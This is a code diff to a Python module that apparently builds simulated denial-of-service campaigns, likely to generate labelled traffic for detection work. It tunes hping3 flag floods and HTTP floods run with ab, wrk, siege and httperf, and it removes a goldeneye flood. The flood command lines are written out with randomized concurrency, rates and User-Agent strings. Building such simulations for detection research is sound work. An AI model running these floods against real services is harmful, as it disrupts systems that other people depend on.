@@ -2,7 +2,7 @@
 
 from shlex import quote
 
-from attacks.aim import aim, has_ipv6
+from attacks.aim import aim, flags_pass, has_ipv6
 from attacks.attack import Campaign, attack
 from attacks.steps import program, tool
 from attacks.words import agent
@@ -42,7 +42,7 @@ def syn_flood(chance, world):
 @attack("dos", "SYNFlood", "hping3", "odd-flags")
 def flag_flood(chance, world):
     """ACK, RST or FIN without a connection."""
-    aimed = aim(chance, world)
+    aimed = aim(chance, world, actors=flags_pass(world))
     port = chance.choice(_TCP_PORTS[aimed.target.name])
     flags = chance.choice((("-A",), ("-R",), ("-F",), ("-A", "-P"), ("-S", "-A"), ("-F", "-S", "-R", "-P", "-A", "-U")))
     return _campaign(aimed, [_hping(chance, aimed, *flags, "-p", port)], aimed.rule(port, "tcp"))
@@ -92,15 +92,19 @@ def large_ping_flood(chance, world):
 
 @attack("dos", "HTTPFlood", "ab", "http")
 def http_flood(chance, world):
+    """ab knows no rate: bursts with pauses, at most about a hundred requests a second."""
     aimed = aim(chance, world, ("web",), first=True)
     page = chance.choice(("/", "/app/slow", "/app/search?q=a", "/app/item?id=7", "/app/"))
     tls = chance.random() < 0.3
-    seconds = chance.randint(10, 30)
-    words = ["ab", "-q", "-r", "-s", 10, "-t", seconds, "-n", chance.randint(1200, 2500), "-c", chance.randint(5, 50)]
+    burst = chance.randint(30, 60)
+    words = ["ab", "-q", "-r", "-s", 10, "-n", burst, "-c", chance.randint(5, 40)]
     if chance.random() < 0.4:
         words.append("-k")
     words += ["-H", f"User-Agent: {agent(chance)}", f"{'https' if tls else 'http'}://{aimed.at}{page}"]
-    step = tool(aimed.actor, *words, seconds=50, good=(0, None))
+    line = " ".join(quote(str(word)) for word in words)
+    pause = round(burst / 100 + chance.uniform(0, 1), 2)
+    loop = f"i=0; while [ $i -lt {chance.randint(6, 14)} ]; do {line} >/dev/null || exit 1; sleep {pause}; i=$((i + 1)); done"
+    step = tool(aimed.actor, "sh", "-c", loop, seconds=55, good=(0, None))
     return _campaign(aimed, [step], aimed.rule(443 if tls else 80, "tcp"))
 
 
@@ -216,24 +220,12 @@ def _bursts(chance, aimed, rule, *options):
     return _campaign(aimed, [tool(aimed.actor, "sh", "-c", loop, seconds=56)], rule)
 
 
-@attack("dos", "HTTPFlood", "goldeneye", "http")
-def goldeneye_flood(chance, world):
-    """No two requests are alike."""
-    aimed = aim(chance, world, ("web",), first=True)
-    words = ("goldeneye", f"http://{aimed.at}/", "-w", chance.randint(1, 3), "-s", chance.randint(4, 20))
-    words += ("-m", chance.choice(("get", "post", "random")))
-    step = tool(
-        aimed.actor, "timeout", "-s", "INT", chance.randint(10, 25), *words, seconds=50, good=(0, 124, 137, None)
-    )
-    return _campaign(aimed, [step], aimed.rule(80, "tcp"), 300)
-
-
 @attack("dos", "HTTPFlood", "wrk", "http")
 def wrk_flood(chance, world):
     aimed = aim(chance, world, ("web",), first=True)
     tls = chance.random() < 0.3
-    page = chance.choice(("/app/slow", "/app/slow", "/app/search?q=lamp"))
-    words = ("wrk", "-t", 1, "-c", chance.randint(2, 30), "-d", f"{chance.randint(8, 20)}s", "--timeout", "5s")
+    page = "/app/slow"
+    words = ("wrk", "-t", 1, "-c", chance.randint(2, 20), "-d", f"{chance.randint(8, 20)}s", "--timeout", "5s")
     step = tool(aimed.actor, *words, f"{'https' if tls else 'http'}://{aimed.at}{page}", seconds=50)
     return _campaign(aimed, [step], aimed.rule(443 if tls else 80, "tcp"))
 
@@ -242,7 +234,7 @@ def wrk_flood(chance, world):
 def siege_flood(chance, world):
     aimed = aim(chance, world, ("web",), first=True)
     page = chance.choice(("/app/", "/app/search?q=chair", "/app/slow"))
-    words = ("siege", "-q", "-c", chance.randint(5, 30), "-d", round(chance.uniform(0.05, 0.4), 2), "-t")
+    words = ("siege", "-q", "-c", chance.randint(4, 14), "-d", round(chance.uniform(0.3, 1), 2), "-t")
     step = tool(
         aimed.actor, *words, f"{chance.randint(10, 30)}S", f"http://{aimed.at}{page}", seconds=50, good=(0, None)
     )
@@ -252,7 +244,7 @@ def siege_flood(chance, world):
 @attack("dos", "HTTPFlood", "httperf", "http")
 def httperf_flood(chance, world):
     aimed = aim(chance, world, ("web",), first=True)
-    rate = chance.randint(20, 120)
+    rate = chance.randint(15, 70)
     words = (
         "httperf",
         "--hog",
